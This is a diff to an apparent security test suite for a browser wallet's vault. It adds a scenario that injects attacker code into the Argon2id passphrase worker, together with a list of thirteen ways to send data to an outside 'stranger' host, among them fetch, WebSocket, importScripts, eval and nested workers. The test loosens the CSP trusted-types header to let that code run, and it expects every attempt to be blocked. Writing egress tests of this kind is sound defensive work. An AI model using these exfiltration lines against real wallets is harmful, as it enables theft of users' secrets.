@@ -2,7 +2,7 @@
 import { createHash } from 'node:crypto'
 import type { Ground, Scenario } from '../scenario.ts'
 import type { Tampering } from '../stage/serveFront.ts'
-import { openWallet, until } from '../stage/visitor.ts'
+import { openWallet, until, vaultFile } from '../stage/visitor.ts'
 
 /**
  * Code of an attacker inside the vault's document, which wants to send what it has found. The document is the real one,
@@ -142,35 +142,90 @@ export const withScript =
 /** Long enough for a request to be there; the audit comes a second later, and looks again. */
 const settle = (): Promise<void> => new Promise((resolve) => setTimeout(resolve, 300))
 
+/** Opens a wallet whose vault is served as `tampering` has it, and waits until the vault's document says that it was attacked. */
+const openAttacked = async ({ stage, openTab }: Ground, tampering: Tampering): Promise<void> => {
+  let isServed = false
+  stage.vaultFront.tamper((path, served) => {
+    isServed ||= path.startsWith('/vault?')
+    return tampering(path, served)
+  })
+  const tab = await openTab()
+  await openWallet(stage, tab)
+  // A document that went to its own address is gone, and has nothing more to tell.
+  await until(async () => {
+    const vault = tab.realms().find((realm) => realm.url().startsWith(stage.urls.vault))
+    if (vault === undefined) return isServed
+    return (await vault.evaluate(() => document.documentElement.dataset.attacked, undefined).catch(() => '')) === 'yes'
+  })
+  await settle()
+  stage.vaultFront.tamper(null)
+}
+
 const attackVault =
   (attempts: Attempts): Scenario['attack'] =>
   async (ground: Ground) => {
-    const { stage, openTab } = ground
-    const tampering = withScript(scriptOf(attempts, stage.urls.stranger))
-    let isServed = false
-    stage.vaultFront.tamper((path, served) => {
-      isServed ||= path.startsWith('/vault?')
-      return tampering(path, served)
-    })
-    const tab = await openTab()
-    await openWallet(stage, tab)
-    // A document that went to its own address is gone, and has nothing more to tell.
-    await until(async () => {
-      const vault = tab.realms().find((realm) => realm.url().startsWith(stage.urls.vault))
-      if (vault === undefined) return isServed
-      return (
-        (await vault.evaluate(() => document.documentElement.dataset.attacked, undefined).catch(() => '')) === 'yes'
-      )
-    })
-    await settle()
-    stage.vaultFront.tamper(null)
+    await openAttacked(ground, withScript(scriptOf(attempts, ground.stage.urls.stranger)))
     return 'nothing'
   }
 
-export const egressRows: readonly Scenario[] = Object.entries(ways).map(([name, attempts]) => ({
-  name: `from inside the vault: ${name} (${Object.keys(attempts).length} ways)`,
-  attack: attackVault(attempts),
-  gets: 'nothing',
-}))
+/** What a worker may try. */
+const workerWays = {
+  fetch: "fetch(leak('fetch'), { mode: 'no-cors' })",
+  XMLHttpRequest: "{ const request = new XMLHttpRequest(); request.open('GET', leak('xhr')); request.send() }",
+  WebSocket: "new WebSocket(leak('socket').replace('http', 'ws'))",
+  EventSource: "new EventSource(leak('events'))",
+  WebTransport: "new WebTransport(leak('transport').replace('http:', 'https:'))",
+  'own origin': "fetch('/leak/own')",
+  worker: "new Worker(leak('worker'))",
+  'worker of a blob': "new Worker(URL.createObjectURL(new Blob([`fetch('${leak('blob')}')`])))",
+  importScripts: "importScripts(leak('scripts'))",
+  import: "import(leak('module'))",
+  eval: "eval(`fetch('${leak('eval')}')`)",
+  Function: "new Function(`fetch('${leak('function')}')`)()",
+  'text in a timer': "setTimeout(`fetch('${leak('timer')}')`)",
+} as const satisfies Attempts
+
+/**
+ * The worker that computes Argon2id, served with the attacker's code in it and its headers as they are, and started by a
+ * script of the attacker's in the vault's document.
+ */
+const attackKdf: Scenario['attack'] = async (ground: Ground) => {
+  const { stage } = ground
+  const start = `(() => {
+    const policy = globalThis.trustedTypes?.createPolicy('attacker', { createScriptURL: (url) => url })
+    const url = ${JSON.stringify(await vaultFile(ground, 'kdf'))}
+    const worker = new Worker(policy?.createScriptURL(url) ?? url)
+    worker.addEventListener('message', () => { document.documentElement.dataset.attacked = 'yes' })
+  })()`
+  const code = `(() => {
+    const leak = (name) => ${JSON.stringify(`${stage.urls.stranger}/leak/kdf-`)} + name
+    addEventListener('unhandledrejection', (event) => event.preventDefault())
+    ${Object.values(workerWays)
+      .map((attempt) => `try { ${attempt} } catch {}`)
+      .join('\n')}
+    postMessage('attacked')
+  })()`
+  const inDocument = withScript(start)
+  await openAttacked(ground, (path, served) => {
+    if (path.startsWith('/vault-kdf-')) return { ...served, body: Buffer.from(code) }
+    const sent = inDocument(path, served)
+    const policy = `${sent.headers['content-security-policy']}`.replace('trusted-types ', 'trusted-types attacker ')
+    return { ...sent, headers: { ...sent.headers, 'content-security-policy': policy } }
+  })
+  return 'nothing'
+}
+
+export const egressRows: readonly Scenario[] = [
+  ...Object.entries(ways).map(([name, attempts]) => ({
+    name: `from inside the vault: ${name} (${Object.keys(attempts).length} ways)`,
+    attack: attackVault(attempts),
+    gets: 'nothing',
+  })),
+  {
+    name: `from inside the worker of passphrases (${Object.keys(workerWays).length} ways)`,
+    attack: attackKdf,
+    gets: 'nothing',
+  },
+]
 
 export const egressWays: Readonly<Record<string, Attempts>> = ways
